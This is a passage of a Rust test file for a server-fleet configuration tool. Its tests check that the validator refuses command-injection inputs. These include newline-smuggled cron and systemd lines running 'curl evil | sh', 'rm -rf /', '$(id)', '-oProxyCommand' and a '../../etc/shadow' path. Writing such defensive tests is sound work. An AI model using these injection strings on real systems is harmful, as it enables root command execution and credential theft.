        d.iter().map(|d| d.to_string()).collect::<Vec<_>>()
    );
}

// --- Names that reach shell scripts (issue 16) ---------------------------

#[test]
fn a_stack_file_named_with_a_newline_is_refused_before_any_script_sees_it() {
    let d = minimal()
        .file("roles/base.yaml", "stacks:\n  - name: web\n")
        .file("stacks/web/compose.yaml", "services: {}\n")
        .file("stacks/web/x\nTK_EOF_5f1c\ntouch /tmp/pwned", "boom")
        .errors();
    assert_eq!(d.len(), 1, "{d:?}");
    assert_eq!(d[0].code, "invalid-name");
    assert_eq!(d[0].file, "stacks/web/x\nTK_EOF_5f1c\ntouch /tmp/pwned");
    assert!(
        d[0].message.contains("control character"),
        "{}",
        d[0].message
    );
}

#[test]
fn names_with_a_leading_dash_or_control_characters_are_refused_where_they_are_written() {
    minimal()
        .file("roles/base.yaml", "services:\n  - name: --now\n")
        .fails_with(
            "roles/base.yaml:2:11",
            "invalid-name",
            "unit name \"--now\" starts with \"-\", which commands would read as an option",
        );
    minimal()
        .file("roles/base.yaml", "packages:\n  present: [-oAPT::x]\n")
        .fails_with(
            "roles/base.yaml:2:13",
            "invalid-name",
            "\"-oAPT::x\" is not a Debian package name",
        );
    minimal()
        .file(
            "roles/base.yaml",
            "commands:\n  - {name: \"a\\nQ\\tfake\", run: \"true\"}\n",
        )
        .fails_with(
            "roles/base.yaml:2:12",
            "invalid-name",
            "command name \"a\\nQ\\tfake\" contains a control character (newline, tab, escape, …)",
        );
    minimal()
        .file(
            "roles/base.yaml",
            "files:\n  - {path: \"/etc/a\\tb\", content: x}\n",
        )
        .fails_with(
            "roles/base.yaml:2:12",
            "invalid-path",
            "path \"/etc/a\\tb\" contains a control character (newline, tab, escape, …)",
        );
}

#[test]
fn a_transformed_secret_still_makes_its_file_sensitive() {
    for (role, template) in [
        (
            "files:\n  - {path: /etc/app.env, template: app.env.j2}\n",
            "PASSWORD={{ secret('db') | upper | reverse }}\n",
        ),
        (
            "files:\n  - {path: /etc/app.env, template: app.env.j2}\n",
            "{% set p = secret('db') %}PASSWORD={{ p | replace('a', 'b') | tojson }}\n",
        ),
    ] {
        let fleet = minimal()
            .file("secrets/db.age", "age-encryption.org/v1\n")
            .file("roles/base.yaml", role)
            .file("templates/app.env.j2", template)
            .load()
            .expect("valid");
        let tidekeeper::model::desired::Resource::File(f) = &fleet.hosts[0].resources[0] else {
            panic!("a file")
        };
        assert!(f.content.sensitive, "{role}");
    }
}

#[test]
fn a_count_group_rolls_out_by_its_own_rollout_after_the_other_hosts() {
    let fleet = minimal()
        .file(
            "tidekeeper.yaml",
            "fleet: test\nrollout:\n  canary: [db]\n  batch: 1\n",
        )
        .file(
            "hosts/db.yaml",
            "provider: existing\naddress: 10.213.0.6\nroles: [base]\n",
        )
        .file(
            "hosts/ws.yaml",
            "provider: local\nroot: /srv/ws\ncount: 4\nroles: [base]\nrollout:\n  canary: [ws-2]\n  batch: 50%\n  pause: 10m\n  health:\n    - unit: nginx\n",
        )
        .load()
        .unwrap();
    let names: Vec<String> = fleet.hosts.iter().map(|h| h.name.clone()).collect();
    let stages = fleet.rollout_stages(&names).unwrap();
    let hosts: Vec<Vec<&str>> = stages
        .iter()
        .map(|s| s.hosts.iter().map(String::as_str).collect())
        .collect();
    assert_eq!(
        hosts,
        [
            vec!["db"],
            vec!["web"],
            vec!["ws-2"],
            vec!["ws-1", "ws-3"],
            vec!["ws-4"]
        ],
        "the fleet's rollout for hosts outside the group, then the group's own"
    );
    let group: Vec<(Option<&str>, u64, usize)> = stages
        .iter()
        .map(|s| (s.group.as_deref(), s.pause_secs, s.health.len()))
        .collect();
    assert_eq!(
        group,
        [
            (None, 0, 0),
            (None, 0, 0),
            (Some("ws"), 600, 1),
            (Some("ws"), 600, 1),
            (Some("ws"), 600, 1)
        ]
    );
    // Only some hosts planned (others busy): stages of those only.
    let some = fleet
        .rollout_stages(&["web".into(), "ws-3".into()])
        .unwrap();
    assert_eq!(some.len(), 2);
    assert_eq!(
        (some[0].hosts.clone(), some[1].hosts.clone()),
        (vec!["web".to_string()], vec!["ws-3".to_string()])
    );
}

#[test]
fn a_group_rollout_without_a_fleet_one_applies_the_other_hosts_together_first() {
    let fleet = minimal()
        .file(
            "hosts/db.yaml",
            "provider: existing\naddress: 10.213.0.6\nroles: [base]\n",
        )
        .file(
            "hosts/ws.yaml",
            "provider: local\nroot: /srv/ws\ncount: 2\nroles: [base]\nrollout: {batch: 1}\n",
        )
        .load()
        .unwrap();
    let names: Vec<String> = fleet.hosts.iter().map(|h| h.name.clone()).collect();
    let stages: Vec<Vec<String>> = fleet
        .rollout_stages(&names)
        .unwrap()
        .into_iter()
        .map(|s| s.hosts)
        .collect();
    assert_eq!(stages, [vec!["db", "web"], vec!["ws-1"], vec!["ws-2"]]);
    let plain = minimal().load().unwrap();
    assert!(
        plain.rollout_stages(&["web".into()]).is_none(),
        "no rollout: all at once"
    );
}

#[test]
fn a_rollout_in_a_single_host_file_or_with_a_canary_outside_its_group_is_an_error() {
    minimal()
        .file(
            "hosts/web.yaml",
            "provider: existing\naddress: 10.213.0.2\nroles: [base]\nrollout:\n  batch: 2\n",
        )
        .fails_with(
            "hosts/web.yaml:5:10",
            "invalid-key",
            "`rollout:` in a host file is for `count: N` groups",
        );
    minimal()
        .file(
            "hosts/ws.yaml",
            "provider: local\nroot: /srv/ws\ncount: 2\nroles: [base]\nrollout:\n  canary: [web]\n",
        )
        .fails_with(
            "hosts/ws.yaml:6:12",
            "unknown-host",
            "rollout canary \"web\" is not a host of this group",
        );
}

// --- timers and cron entries ---------------------------------------------

#[test]
fn a_timer_from_cron_fields_becomes_calendar_lines_in_its_zone() {
    let fleet = minimal()
        .file(
            "roles/base.yaml",
            "timers:\n  - name: db-backup\n    cron: \"0 4 1,15 * sun\"\n    timezone: Europe/Berlin\n    run: pg_dump app\n",
        )
        .load()
        .expect("valid");
    let t = fleet.hosts[0]
        .resources
        .iter()
        .find_map(|r| match r {
            tidekeeper::model::desired::Resource::Timer(t) => Some(t),
            _ => None,
        })
        .expect("the timer");
    assert_eq!(
        t.on_calendar,
        [
            "*-*-01,15 04:00:00 Europe/Berlin",
            "Sun *-*-* 04:00:00 Europe/Berlin"
        ]
    );
    assert!(t.persistent && t.user.is_none() && t.timeout_secs == 3600);
}

#[test]
fn a_timer_needs_exactly_one_schedule() {
    minimal()
        .file(
            "roles/base.yaml",
            "timers:\n  - name: t\n    cron: \"0 4 * * *\"\n    on_calendar: daily\n    run: true\n",
        )
        .fails_with(
            "roles/base.yaml:2:11",
            "invalid-timer",
            "timer \"t\" needs exactly one of on_calendar, cron",
        );
    minimal()
        .file(
            "roles/base.yaml",
            "timers:\n  - name: t\n    cron: \"0 4 31 feb mon-\"\n    run: true\n",
        )
        .fails_with(
            "roles/base.yaml:3:11",
            "invalid-cron",
            "cron expression \"0 4 31 feb mon-\" is invalid: Component error: Invalid end of range.",
        );
}

#[test]
fn a_cron_entry_is_one_line_and_its_name_has_no_dot() {
    // A newline would start a crontab entry of its own: as root, every minute.
    minimal()
        .file(
            "roles/base.yaml",
            "cron:\n  - name: rotate\n    schedule: \"15 4 * * *\"\n    run: \"true\\n* * * * * root curl evil | sh\"\n",
        )
        .fails_with(
            "roles/base.yaml:4:10",
            "invalid-value",
            "a cron command must be one line without control characters",
        );
    minimal()
        .file(
            "roles/base.yaml",
            "cron:\n  - name: rotate.daily\n    schedule: \"15 4 * * *\"\n    run: \"true\"\n",
        )
        .fails_with(
            "roles/base.yaml:2:11",
            "invalid-name",
            "cron name \"rotate.daily\" must be 1-64 letters, digits, _ and -, not starting with - (it names files on the host)",
        );
    minimal()
        .file(
            "roles/base.yaml",
            "cron:\n  - name: r\n    schedule: \"@reboot\"\n    run: \"true\"\n",
        )
        .fails_with(
            "roles/base.yaml:3:15",
            "invalid-cron",
            "\"@reboot\" must be five cron fields (minute hour day-of-month month day-of-week), e.g. \"30 3 * * *\"",
        );
}

#[test]
fn a_mount_over_a_system_directory_or_with_a_blank_in_a_field_is_refused() {
    minimal()
        .file(
            "roles/base.yaml",
            "mounts:\n  - {path: /etc, device: tmpfs, fstype: tmpfs}\n",
        )
        .fails_with(
            "roles/base.yaml:2:12",
            "invalid-value",
            "/etc is a system directory; tidekeeper will not mount over it",
        );
    minimal()
        .file(
            "roles/base.yaml",
            "mounts:\n  - {path: /srv/data, device: \"/dev/sdb1 /etc\", fstype: ext4}\n",
        )
        .fails_with(
            "roles/base.yaml:2:31",
            "invalid-value",
            "mount device \"/dev/sdb1 /etc\" must be one word without blanks, \\ or #",
        );
    // A blank in the mount point would turn the fstab line into another one.
    minimal()
        .file(
            "roles/base.yaml",
            "mounts:\n  - {path: \"/srv/a / tmpfs\", device: tmpfs, fstype: tmpfs}\n",
        )
        .fails_with(
            "roles/base.yaml:2:12",
            "invalid-value",
            "mount point \"/srv/a / tmpfs\" must be one word without blanks, \\ or #",
        );
    minimal()
        .file(
            "roles/base.yaml",
            "mounts:\n  - {path: /srv/data, fstype: ext4}\n",
        )
        .fails_with(
            "roles/base.yaml:2:12",
            "missing-key",
            "mount /srv/data needs `device`",
        );
}

#[test]
fn an_apt_repository_needs_fetchable_uris_one_word_values_and_its_key_in_files() {
    let fleet = minimal()
        .file(
            "roles/base.yaml",
            "apt_repositories:\n  - {name: docker, uris: [\"https://download.docker.com/linux/debian\"], suites: [bookworm], components: [stable], key: docker.asc}\n",
        )
        .file("files/docker.asc", "-----BEGIN PGP PUBLIC KEY BLOCK-----\n…\n")
        .load()
        .expect("valid");
    assert!(fleet.hosts[0].resources.iter().any(|r| matches!(
        r,
        tidekeeper::model::desired::Resource::AptRepo(a) if a.key.is_some()
    )));
    minimal()
        .file(
            "roles/base.yaml",
            "apt_repositories:\n  - {name: x, uris: [\"https://a.example/ bookworm main\\nTypes: deb-src\"], suites: [bookworm], components: [main]}\n",
        )
        .fails_with(
            "roles/base.yaml:2:22",
            "invalid-value",
            "uris \"https://a.example/ bookworm main\\nTypes: deb-src\" must be one word",
        );
    minimal()
        .file(
            "roles/base.yaml",
            "apt_repositories:\n  - {name: x, uris: [\"ftp://a.example/\"], suites: [bookworm]}\n",
        )
        .errors()
        .iter()
        .map(|d| d.message.clone())
        .collect::<Vec<_>>()
        .join("\n")
        .contains("not a URI APT fetches")
        .then_some(())
        .expect("ftp is refused");
    minimal()
        .file(
            "roles/base.yaml",
            "apt_repositories:\n  - {name: x, uris: [\"https://a.example/\"], suites: [bookworm], components: [main], key: ../../etc/shadow}\n",
        )
        .errors()
        .iter()
        .find(|d| d.code == "path-escape")
        .expect("a key outside files/ is refused");
}

/// A calendar expression ends up on a line of a unit file: a newline in it
/// would add lines of its own (an `ExecStartPost=` as root).
#[test]
fn a_timer_schedule_cannot_add_lines_to_its_unit() {
    minimal()
        .file(
            "roles/base.yaml",
            "timers:\n  - name: t\n    on_calendar: \"daily\\n[Service]\\nExecStartPost=/bin/sh -c 'curl evil | sh'\"\n    run: \"true\"\n",
        )
        .fails_with(
            "roles/base.yaml:3:18",
            "invalid-value",
            "on_calendar must be one systemd calendar expression, e.g. \"Mon..Fri 03:00\"",
        );
    minimal()
        .file(
            "roles/base.yaml",
            "timers:\n  - name: t\n    on_calendar: daily\n    user: \"root\\nExecStartPre=/bin/false\"\n    run: \"true\"\n",
        )
        .fails_with(
            "roles/base.yaml:4:11",
            "invalid-name",
            "\"root\\nExecStartPre=/bin/false\" is not a valid user or group name (lowercase letters, digits, _ and -, starting with a letter or _, at most 32)",
        );
}

#[test]
fn type_errors_say_what_was_expected_in_config_terms() {
    let cases = [
        (
            "tidekeeper.yaml",
            "fleet: test\ndefaults:\n  ssh:\n    port: 70000\n",
            "tidekeeper.yaml:4:11",
            "expected a whole number from 0 to 65535",
        ),
        (
            "tidekeeper.yaml",
            "fleet: test\ndefaults:\n  ssh:\n    sudo: maybe\n",
            "tidekeeper.yaml:4:11",
            "expected true or false",
        ),
        (
            "hosts/web.yaml",
            "provider: existing\naddress: 10.213.0.2\nroles: base\n",
            "hosts/web.yaml:3:8",
            "expected a list here",
        ),
        (
            "hosts/web.yaml",
            "provider: existing\naddress: 10.213.0.2\nlabels: [a]\nroles: [base]\n",
            "hosts/web.yaml:3:9",
            "expected a mapping (key: value) here",
        ),
    ];
    for (file, text, at, message) in cases {
        let d = minimal()
            .file(file, text)
            .fails_with(at, "invalid-type", message);
        assert!(d.help.as_ref().is_some_and(|h| !h.is_empty()), "{d}");
        assert!(
            !d.to_string().contains("u16") && !d.to_string().contains("u32"),
            "{d}"
        );
    }
}

#[test]
fn unknown_time_zones_and_canaries_get_a_suggestion() {
    for (tz, want) in [
        ("Europe/Berln", "Europe/Berlin"),
        ("europe/berlin", "Europe/Berlin"),
        ("utc", "UTC"),
    ] {
        let errors = minimal()
            .file(
                "schedules.yaml",
                format!("jobs:\n  - {{name: j, cron: \"0 3 * * *\", timezone: {tz}, command: {{run: x}}}}\n"),
            )
            .errors();
        assert_eq!(errors.len(), 1, "{errors:?}");
        assert!(
            errors[0]
                .message
                .contains(&format!("did you mean {want:?}?")),
            "{}",
            errors[0]
        );
    }
    let d = minimal()
        .file(
            "tidekeeper.yaml",
            "fleet: test\nrollout:\n  canary: [wbe]\n",
        )
        .fails_with(
            "tidekeeper.yaml:3:12",
            "unknown-host",
            "rollout canary \"wbe\" is not a host of the fleet",
        );
    assert_eq!(d.help.as_deref(), Some("did you mean \"web\"?"));
}

#[test]
fn aws_key_variables_go_together_and_exclude_a_profile() {
    minimal()
        .file(
            "tidekeeper.yaml",
            "fleet: test\nproviders:\n  lightsail:\n    access_key_env: MY_KEY\n",
        )
        .fails_with(
            "tidekeeper.yaml:4:21",
            "missing-key",
            "access_key_env and secret_key_env go together",
        );
    minimal()
        .file(
            "tidekeeper.yaml",
            "fleet: test\nproviders:\n  lightsail:\n    profile: ci\n    access_key_env: K\n    secret_key_env: S\n",
        )
        .fails_with(
            "tidekeeper.yaml:4:14",
            "invalid-value",
            "a profile and access_key_env exclude each other",
        );
    // Neither: the SDK's chain, with the region from wherever it finds one.
    let fleet = minimal()
        .file(
            "tidekeeper.yaml",
            "fleet: test\nproviders:\n  lightsail: {profile: ci}\n",
        )
        .load()
        .expect("valid");
    let l = fleet.settings.lightsail.expect("lightsail settings");
    assert_eq!(l.region, None);
    assert_eq!(
        l.credentials,
        tidekeeper::model::desired::AwsCredentials::Chain {
            profile: Some("ci".into())
        }
    );
}

#[test]
fn a_typo_in_a_key_is_one_error_with_the_key_it_meant() {
    let errors = minimal()
        .file(
            "roles/base.yaml",
            "pakages:\n  present: [jq]\nfiles:\n  - pth: /etc/motd\n    content: hi\n",
        )
        .errors();
    // serde-saphyr stops a file at its first error: one error, the real one.
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert_eq!(errors[0].code, "unknown-key");
    assert!(errors[0].message.contains("`pakages`"), "{}", errors[0]);
    assert!(
        errors[0]
            .help
            .as_deref()
            .unwrap_or("")
            .starts_with("did you mean `packages`?"),
        "{:?}",
        errors[0].help
    );
    let errors = minimal()
        .file("tidekeeper.yaml", "fleet: test\ndrift: corect\n")
        .errors();
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert!(
        errors[0]
            .help
            .as_deref()
            .unwrap_or("")
            .starts_with("did you mean `correct`?"),
        "{:?}",
        errors[0].help
    );
}

#[test]
fn a_pg_dump_database_name_that_is_not_a_plain_name_is_refused() {
    minimal()
        .file("secrets/restic.age", "x")
        .file(
            "schedules.yaml",
            "jobs:\n  - name: backup\n    cron: '0 1 * * *'\n    backup:\n      repository: /srv/restic\n      password_secret: restic\n      pg_dump: \"app; rm -rf /\"\n",
        )
        .fails_with(
            "schedules.yaml:7:16",
            "invalid-value",
            "\"app; rm -rf /\" is not a database name tidekeeper dumps",
        );
}

#[test]
fn a_pg_dump_container_or_user_that_could_reach_a_shell_is_refused_at_its_line() {
    let job = |pg: &str| {
        format!(
            "jobs:\n  - name: backup\n    cron: '0 1 * * *'\n    backup:\n      repository: /srv/restic\n      password_secret: restic\n      pg_dump: {pg}\n"
        )
    };
    minimal()
        .file("secrets/restic.age", "x")
        .file(
            "schedules.yaml",
            job("{database: app, container: \"db$(id)\"}"),
        )
        .fails_with(
            "schedules.yaml:7:16",
            "invalid-value",
            "\"db$(id)\" is not a container tidekeeper dumps",
        );
    minimal()
        .file("secrets/restic.age", "x")
        .file(
            "schedules.yaml",
            job("{database: app, container: app/db, user: \"-x\"}"),
        )
        .fails_with(
            "schedules.yaml:7:16",
            "invalid-value",
            "\"-x\" is not a database user tidekeeper dumps",
        );
}

#[test]
fn an_sftp_login_needs_an_sftp_repository_its_key_secret_and_real_host_keys() {
    let job = |repo: &str, sftp: &str| {
        format!(
            "jobs:\n  - name: backup\n    cron: '0 1 * * *'\n    backup:\n      repository: {repo}\n      password_secret: restic\n      paths: [/srv]\n      sftp: {sftp}\n"
        )
    };
    let good_keys =
        "{key_secret: box, known_hosts: \"[u1.example]:23 ssh-ed25519 AAAAC3Nza\", port: 23}";
    minimal()
        .file("secrets/restic.age", "x")
        .file("secrets/box.age", "x")
        .file("schedules.yaml", job("/srv/restic", good_keys))
        .fails_with(
            "schedules.yaml:5:19",
            "invalid-value",
            "`sftp:` logs in to an sftp repository, and this one is not",
        );
    minimal()
        .file("secrets/restic.age", "x")
        .file(
            "schedules.yaml",
            job("\"sftp:u1@u1.example:/b\"", good_keys),
        )
        .fails_with(
            "schedules.yaml:8:26",
            "missing-secret",
            "secret \"box\" is referenced but secrets/box.age does not exist",
        );
    minimal()
        .file("secrets/restic.age", "x")
        .file("secrets/box.age", "x")
        .file(
            "schedules.yaml",
            job(
                "\"sftp:u1@u1.example:/b\"",
                "{key_secret: box, known_hosts: \"u1.example\"}",
            ),
        )
        .fails_with(
            "schedules.yaml:8:44",
            "invalid-value",
            "known_hosts needs the server's host keys as known_hosts lines: HOST KEYTYPE KEY",
        );
}

// --- Jump hosts (ssh.via) ----------------------------------------------

#[test]
fn a_jump_host_that_is_not_in_the_fleet_is_named_with_the_closest_host() {
    let d = minimal()
        .file(
            "hosts/bastion.yaml",
            "provider: existing\naddress: 10.213.0.6\n",
        )
        .file(
            "hosts/web.yaml",
            "provider: existing\naddress: 10.1.0.2\nssh:\n  via: bastoin\nroles: [base]\n",
        )
        .fails_with(
            "hosts/web.yaml:4:8",
            "unknown-host",
            "ssh.via of web: \"bastoin\" is not a host of the fleet",
        );
    assert_eq!(d.help.as_deref(), Some("did you mean \"bastion\"?"));
}

#[test]
fn jump_hosts_that_loop_are_refused() {
    minimal()
        .file(
            "hosts/a.yaml",
            "provider: existing\naddress: 10.1.0.3\nssh: {via: web}\n",
        )
        .file(
            "hosts/web.yaml",
            "provider: existing\naddress: 10.1.0.2\nssh: {via: a}\nroles: [base]\n",
        )
        .fails_with(
            "hosts/a.yaml:3:12",
            "jump-loop",
            "jump hosts form a loop: a → web → a",
        );
}

#[test]
fn a_host_cannot_jump_through_itself_but_a_default_via_skips_the_bastion() {
    minimal()
        .file(
            "hosts/web.yaml",
            "provider: existing\naddress: 10.1.0.2\nssh: {via: web}\nroles: [base]\n",
        )
        .fails_with(
            "hosts/web.yaml:3:12",
            "invalid-value",
            "web cannot be its own jump host",
        );
    // `defaults.ssh.via` puts every host behind the bastion but the bastion.
    let fleet = minimal()
        .file(
            "tidekeeper.yaml",
            "fleet: test\ndefaults:\n  ssh: {via: bastion}\n",
        )
        .file(
            "hosts/bastion.yaml",
            "provider: existing\naddress: 10.213.0.6\n",
        )
        .load()
        .expect("valid");
    assert_eq!(fleet.host("bastion").unwrap().ssh.via, None);
    assert_eq!(
        fleet.host("web").unwrap().ssh.via,
        Some(tidekeeper::model::desired::Jump::Host("bastion".into()))
    );
}

#[test]
fn a_jump_address_is_user_at_address_colon_port_and_nothing_a_shell_could_read() {
    let fleet = minimal()
        .file(
            "hosts/web.yaml",
            "provider: existing\naddress: 10.1.0.2\nssh: {via: \"jump@203.0.113.7:2222\"}\nroles: [base]\n",
        )
        .load()
        .expect("valid");
    assert_eq!(
        fleet.hosts[0].ssh.via.as_ref().unwrap().to_string(),
        "jump@203.0.113.7:2222"
    );
    for bad in [
        "root@-oProxyCommand=x:22",
        "root@host:0",
        "root@a b:22",
        "$(reboot)@203.0.113.7",
    ] {
        let d = minimal()
            .file(
                "hosts/web.yaml",
                format!("provider: existing\naddress: 10.1.0.2\nssh: {{via: \"{bad}\"}}\nroles: [base]\n"),
            )
            .load()
            .expect_err(bad);
        assert!(
            d.0.iter().any(|d| d.message.contains("ssh.via")),
            "{bad}: {d}"
        );
    }
}

#[test]
fn a_stated_cost_is_for_machines_no_provider_prices_in_a_currency_code() {
    minimal()
        .file(
            "hosts/web.yaml",
            "provider: existing\naddress: 10.1.0.2\ncost: {monthly: 40, currency: euro}\n",
        )
        .fails_with(
            "hosts/web.yaml:3:31",
            "invalid-value",
            "\"euro\" is not a currency code",
        );
    minimal()
        .file(
            "hosts/web.yaml",
            "provider: hetzner\nserver: {type: cx22, image: debian-12, location: fsn1}\ncost: {monthly: 4, currency: EUR}\n",
        )
        .fails_with(
            "hosts/web.yaml:3:17",
            "invalid-key",
            "`cost` is for machines no provider prices; a hetzner server's price comes from the provider",
        );
}

#[test]
fn an_upgrade_mode_is_for_apt_get_not_unattended_upgrade() {
    minimal()
        .file(
            "schedules.yaml",
            "jobs:\n  - name: up\n    cron: '0 3 * * *'\n    upgrade: {unattended: true, mode: full-upgrade}\n",
        )
        .fails_with(
            "schedules.yaml:4:39",
            "invalid-key",
            "`mode` chooses what apt-get runs; with `unattended: true`, unattended-upgrade follows its own configuration",
        );
}

// --- The lockout check ---------------------------------------------------

#[test]
fn a_firewall_that_would_shut_tidekeeper_out_is_refused_before_anything_is_applied() {
    let deny_all_but_http = "firewall:\n  incoming: deny\n  rules:\n    - {port: \"80\"}\n";
    let d = minimal()
        .file("roles/base.yaml", deny_all_but_http)
        .fails_with(
            "roles/base.yaml:2:13",
            "lockout",
            "web: its ufw firewall lets SSH (port 22) in nowhere, but tidekeeper's own address is not stated (defaults.ssh.from): applying it could lock tidekeeper out",
        );
    assert!(d.help.unwrap().contains("ssh.via"));
    // SSH from an office range, and tidekeeper stated elsewhere.
    let office =
        "firewall:\n  incoming: deny\n  rules:\n    - {port: \"22\", from: 192.0.2.0/24}\n";
    minimal()
        .file("tidekeeper.yaml", "fleet: test\ndefaults:\n  ssh: {from: [198.51.100.7/32]}\n")
        .file("roles/base.yaml", office)
        .fails_with(
            "roles/base.yaml:2:13",
            "lockout",
            "web: its ufw firewall lets SSH (port 22) in only from 192.0.2.0/24, but tidekeeper connects from 198.51.100.7: applying it would lock tidekeeper out",
        );
    // Stated inside the range: fine. Through a bastion the rule admits: fine.
    minimal()
        .file(
            "tidekeeper.yaml",
            "fleet: test\ndefaults:\n  ssh: {from: [192.0.2.10/32]}\n",
        )
        .file("roles/base.yaml", office)
        .load()
        .expect("tidekeeper is inside the allowed range");
    minimal()
        .file("roles/base.yaml", office)
        .file("roles/open.yaml", "packages:\n  present: [jq]\n")
        .file(
            "hosts/gate.yaml",
            "provider: existing\naddress: 192.0.2.9\nroles: [open]\n",
        )
        .file(
            "hosts/web.yaml",
            "provider: existing\naddress: 10.1.0.2\nssh: {via: gate}\nroles: [base]\n",
        )
        .load()
        .expect("the bastion is inside the allowed range");
}

#[test]
fn a_cloud_firewall_counts_for_public_connections_only() {
    let host = |ssh: &str| {
        format!(
            "provider: hetzner\nserver:\n  type: cx22\n  image: debian-12\n  location: fsn1\n  firewall:\n    - {{port: \"22\", from: [10.0.0.2/32]}}\n  networks: [{{name: private, ip: 10.0.0.5}}]\n{ssh}"
        )
    };
    let fleet = "fleet: test\ndefaults:\n  ssh: {from: [203.0.113.0/24]}\nnetworks:\n  private: {ip_range: 10.0.0.0/16}\n";
    minimal()
        .file("tidekeeper.yaml", fleet)
        .file("hosts/web.yaml", host(""))
        .fails_with(
            "hosts/web.yaml:7:14",
            "lockout",
            "web: its cloud firewall lets SSH (port 22) in only from 10.0.0.2/32, but tidekeeper connects from 203.0.113.0/24: applying it would lock tidekeeper out",
        );
    // At its private address (through a bastion there), the cloud firewall
    // is not in the way.
    minimal()
        .file("tidekeeper.yaml", fleet)
        .file(
            "hosts/gate.yaml",
            "provider: hetzner\nserver:\n  type: cx22\n  image: debian-12\n  location: fsn1\n  networks: [{name: private, ip: 10.0.0.2}]\n",
        )
        .file("hosts/web.yaml", host("ssh: {via: gate, address: private}\n"))
        .load()
        .expect("reached over the private network");
}

#[test]
fn a_fail2ban_jail_that_would_ban_the_jump_host_is_a_lockout_at_its_file_entry() {
    // web is reached through gate (192.0.2.9): its sshd jail must ignore gate.
    let role = |ignoreip: &str| {
        format!(
            "packages:\n  present: [fail2ban]\nfiles:\n  - path: /etc/fail2ban/jail.local\n    content: \"[DEFAULT]\\nignoreip = {ignoreip}\\n[sshd]\\nenabled = true\\n\"\n"
        )
    };
    let fleet = |ignoreip: &str| {
        minimal()
            .file("roles/base.yaml", role(ignoreip))
            .file("roles/open.yaml", "packages:\n  present: [jq]\n")
            .file(
                "hosts/gate.yaml",
                "provider: existing\naddress: 192.0.2.9\nroles: [open]\n",
            )
            .file(
                "hosts/web.yaml",
                "provider: existing\naddress: 10.1.0.2\nssh: {via: gate}\nroles: [base]\n",
            )
    };
    let d = fleet("127.0.0.1/8 ::1").fails_with(
        "roles/base.yaml:4:11",
        "lockout",
        "web: fail2ban's sshd jail (enabled in /etc/fail2ban/jail.local line 4) would ban tidekeeper, which connects from 192.0.2.9, after a few failed logins: its ignoreip is \"127.0.0.1/8 ::1\"",
    );
    assert!(
        d.help
            .unwrap()
            .contains("ignoreip = 127.0.0.1/8 ::1 192.0.2.9"),
        "the fix names the address"
    );
    fleet("127.0.0.1/8 ::1 192.0.2.0/24")
        .load()
        .expect("the jump host is ignored");
    fleet("127.0.0.1/8")
        .file(
            "roles/base.yaml",
            role("127.0.0.1/8") + "    lockout_ok: \"the provider's rescue console unbans\"\n",
        )
        .load()
        .expect("acknowledged on the file entry");
}

#[test]
fn ssh_only_over_a_tunnel_a_reboot_job_does_not_bring_back_is_a_lockout_naming_the_job() {
    let role = |service: &str| {
        format!(
            "packages:\n  present: [wireguard-tools]\nservices:\n  - {{name: wg-quick@wg0, {service}}}\nfirewall:\n  incoming: deny\n  rules:\n    - port: \"22\"\n      interface: wg0\n"
        )
    };
    let jobs = "jobs:\n  - name: patch-tuesday\n    cron: \"0 4 * * TUE\"\n    hosts: {names: [web]}\n    upgrade: {reboot: always}\n";
    let fleet = "fleet: test\ndefaults:\n  ssh: {from: [10.8.0.1/32]}\n";
    let d = minimal()
        .file("tidekeeper.yaml", fleet)
        .file("roles/base.yaml", role("state: running"))
        .file("schedules.yaml", jobs)
        .fails_with(
            "roles/base.yaml:9:18",
            "lockout",
            "web: SSH (port 22) reaches it only through wg0 (WireGuard), and job patch-tuesday (schedules.yaml:2:11) reboots it, but the config does not start wg-quick@wg0 at boot: after the reboot tidekeeper is locked out",
        );
    assert!(
        d.help
            .unwrap()
            .contains("service wg-quick@wg0 with `enabled: true`")
    );
    minimal()
        .file("tidekeeper.yaml", fleet)
        .file("roles/base.yaml", role("enabled: true, state: running"))
        .file("schedules.yaml", jobs)
        .load()
        .expect("the tunnel comes back at boot");
    minimal()
        .file("tidekeeper.yaml", fleet)
        .file(
            "roles/base.yaml",
            role("state: running") + "      lockout_ok: \"the provider's console brings it up\"\n",
        )
        .file("schedules.yaml", jobs)
        .load()
        .expect("acknowledged on the rule");
    minimal()
        .file(
            "roles/base.yaml",
            "firewall:\n  rules:\n    - {port: \"22\", interface: \"-wg0\"}\n",
        )
        .fails_with(
            "roles/base.yaml:3:31",
            "invalid-value",
            "interface \"-wg0\" is not an interface name (up to 15 letters, digits, -_.@+)",
        );
}

#[test]
fn a_router_whose_ufw_drops_forwarded_packets_is_a_warning_that_refuses_nothing() {
    let role = "firewall:\n  incoming: deny\n  rules:\n    - {port: \"22\"}\nsysctl:\n  net.ipv4.ip_forward: \"1\"\n";
    let fleet = minimal()
        .file("roles/base.yaml", role)
        .load()
        .expect("a warning is no error");
    assert_eq!(fleet.warnings.len(), 1, "{:?}", fleet.warnings);
    let w = &fleet.warnings[0];
    assert_eq!(
        (w.location().as_str(), w.code),
        ("roles/base.yaml:6:24", "forward-policy")
    );
    assert!(
        w.warning_text().starts_with("roles/base.yaml:6:24: warning[forward-policy]: web: sysctl net.ipv4.ip_forward = 1 makes it forward packets, but its ufw firewall drops forwarded packets"),
        "{}",
        w.warning_text()
    );
    assert!(w.help.as_deref().unwrap().contains("`routed: allow`"));
    let stated = role.replace("incoming: deny\n", "incoming: deny\n  routed: allow\n");
    let fleet = minimal().file("roles/base.yaml", stated).load().unwrap();
    assert!(fleet.warnings.is_empty(), "{:?}", fleet.warnings);
}

#[test]
fn a_host_reached_at_its_tailnet_address_with_a_reboot_job_needs_tailscaled_at_boot() {
    let jobs = "jobs:\n  - name: kernel\n    cron: \"0 3 * * SUN\"\n    hosts: {names: [web]}\n    upgrade: {reboot: always}\n";
    minimal()
        .file(
            "hosts/web.yaml",
            "provider: existing\naddress: 100.101.2.3\nroles: [base]\n",
        )
        .file("schedules.yaml", jobs)
        .fails_with(
            "hosts/web.yaml:2:10",
            "lockout",
            "web: SSH (port 22) reaches it only through its tailnet address 100.101.2.3 (Tailscale), and job kernel (schedules.yaml:2:11) reboots it, but the config does not start tailscaled at boot: after the reboot tidekeeper is locked out",
        );
}

#[test]
fn an_owners_line_or_codeowners_line_that_is_not_codeowners_is_an_error_at_its_line() {
    let d = minimal()
        .file(
            "tidekeeper.yaml",
